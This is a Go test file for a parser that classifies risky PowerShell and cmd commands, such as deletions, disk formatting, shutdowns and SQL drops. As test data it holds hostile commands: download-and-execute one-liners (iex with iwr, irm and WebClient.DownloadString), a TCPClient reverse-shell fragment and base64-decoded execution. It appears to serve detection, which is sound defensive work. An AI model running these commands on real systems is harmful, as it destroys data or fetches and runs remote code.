package lang

import "testing"

func TestPowerShell(t *testing.T) {
	runExamples(t, "powershell", []example{
		{"remove", `Remove-Item -Recurse -Force C:\a, D:\b; ri "$env:USERPROFILE\c" -rec -fo; del *.log`, []string{`rm -r -f C:\a D:\b`, `rm -r -f <home>\c`, "rm *.log(glob)"}},
		{"named path", `Remove-Item -LiteralPath 'a*' -Recurse:$true`, []string{"rm -r a*"}},
		{"what if", `Remove-Item a -Recurse -WhatIf`, nil},
		{"pipeline", `Get-ChildItem -Path C:\a | Remove-Item -Recurse`, []string{`rm -r C:\a/*(glob)`}},
		{"variables", `$d = 'C:\a'; Remove-Item "$d\b" -Recurse; rm ~/c`, []string{`rm -r C:\a\b`, "rm <home>/c"}},
		{"code from the network", `iex (iwr http://h/x -UseBasicParsing)`, []string{"curl http://h/x", "run:powershell: powershell <net>"}},
		{"piped in", `irm https://h | iex`, []string{"curl https://h", "run:powershell: powershell <net>"}},
		{"behind a type", `[byte[]]$b; Remove-Item x`, []string{"rm x"}},
		{"over a connection", `$c = New-Object System.Net.Sockets.TCPClient("192.0.2.1",9);$r=(iex $d 2>&1|Out-String)`, []string{"powershell| <$d>", "listen: shell over a connection "}},
		{"a connection alone", `$c = New-Object Net.Sockets.TcpClient("h",80); $c.Close()`, nil},
		{"by a web client", `IEX (New-Object Net.WebClient).DownloadString('http://h')`, []string{"curl http://h", "run:powershell: powershell <net>"}},
		{"known code", `iex "Remove-Item x"; iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("bHM=")))`, []string{"powershell| Remove-Item x", "powershell| ls"}},
		{"writes", `Set-Content -Path a -Value b; "x" | Out-File c -Append; echo d > e; ls 2>$null`, []string{"tee a", "tee -a c", "tee e"}},
		{"disks and power", `Format-Volume -DriveLetter D; Clear-Disk -Number 1 -RemoveData; Stop-Computer -Force`, []string{"format: Format-Volume", "format: Clear-Disk", "shutdown -h now"}},
		{"what outlives the session", `Remove-ADUser bob; Remove-Variable x; Remove-VM -Name web -WhatIf`, []string{"destroy: what Remove-ADUser names bob"}},
		{"a query", `Invoke-Sqlcmd -Query 'DROP TABLE a'`, []string{"sql| DROP TABLE a"}},
		{".NET", `[System.IO.File]::Delete("a"); [IO.Directory]::Delete("b", $true)`, []string{"rm a", "rm -r b"}},
		{"programs", `git push --force origin main; & 'C:\x.exe' y; if (Test-Path a) { rm a }`, []string{"git push --force origin main", `C:\x.exe y`, "rm a"}},
		{"as administrator", `Start-Process cmd -ArgumentList '/c del x' -Verb RunAs`, []string{"sudo cmd /c del x"}},
		{"data", "Write-Host \"Remove-Item C:\\\" # Remove-Item x\n<# ri y #> $x = 'rm z'\nGet-Item a", nil},
	})
}

func TestCmd(t *testing.T) {
	runExamples(t, "cmd", []example{
		{"del", `del /s /q C:\a\* & del b`, []string{`rm -r -f C:\a\*(glob)`, "rm -f b"}},
		{"rd", `rd /s /q "C:\a b" && rmdir c || rd/s/q %USERPROFILE%\d`, []string{`rm -r -f C:\a b`, "rmdir c", `rm -r -f <home>\d`}},
		{"format and power", `format D: /q & shutdown /s /t 0`, []string{"format: format D:", "shutdown /s /t 0"}},
		{"redirection", `echo x > a.txt 2>&1 & type b >> nul`, []string{"tee a.txt", "cat b"}},
		{"control", `if exist a del a & for %%i in (*.log) do del %%i`, []string{"rm -f a", "rm -f <%%i>"}},
		{"nested", `cmd /c "rd /s z" & start "t" calc`, []string{"cmd| rd /s z", "calc"}},
		{"data", "echo del /s x\nrem rd /s y\ncd z", nil},
	})
}
